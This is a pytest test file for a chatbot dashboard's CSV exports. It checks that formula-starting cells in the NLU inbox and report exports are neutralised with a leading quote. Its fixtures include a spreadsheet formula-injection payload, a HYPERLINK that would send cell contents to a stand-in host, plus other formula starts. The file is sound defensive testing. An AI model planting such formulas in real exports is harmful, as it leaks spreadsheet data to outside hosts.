"""Every CSV export neutralises cells a spreadsheet would run as formulas (one guard: bot/csv_safety.py)."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import pytest

from bot import csv_safety
from bot.db import Database
from bot.staff.accounts import create_user
from bot.staff.models import Role
from tests.dashboard.conftest import PASSWORD, Browser, Staff, StaffClient
from tests.modelops.nlu_helpers import citizen_says

PAYLOAD = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'


@pytest.mark.parametrize("value", [PAYLOAD, "+1", "-1", "@SUM(A1)", "\tcmd", "\rcmd"])
def test_the_one_guard_quotes_every_formula_start(value: str) -> None:
    assert csv_safety.safe_cell(value) == "'" + value
    assert _cells(csv_safety.to_csv([["a", value]]), ",") == [["a", "'" + value]]


def _cells(body: str, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.lstrip("\ufeff")), delimiter=delimiter))


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_the_nlu_inbox_export_neutralises_formula_cells(
    login: Callable[[str], StaffClient], staff: Staff, database: Database, start: str
) -> None:
    text = PAYLOAD if start == "=" else start + "SUM(1+1)*cmd"
    citizen_says(database, text, "nlu_fallback", 0.2)

    response = login(staff.admin).get("/dashboard/nlu/inbox.csv")

    assert response.status_code == 200
    header, row = _cells(response.text, ",")
    assert header[0] == "text"
    assert row[0] == "'" + text


def test_the_report_export_neutralises_formula_cells(
    client_factory: Callable[[], Browser], staff: Staff, database: Database
) -> None:
    # A unit name is free text (each Pemda names its own): one typed as a formula reaches the report.
    with database.session() as session:
        create_user(session, "supervisor.x", "Supervisor X", PASSWORD, Role.SUPERVISOR, [PAYLOAD])

    response = StaffClient(client_factory(), "supervisor.x").get("/dashboard/laporan.csv")

    assert response.status_code == 200, response.text
    rows = _cells(response.text, ";")
    assert ["Unit", "'" + PAYLOAD] in rows
    assert PAYLOAD not in [cell for row in rows for cell in row]
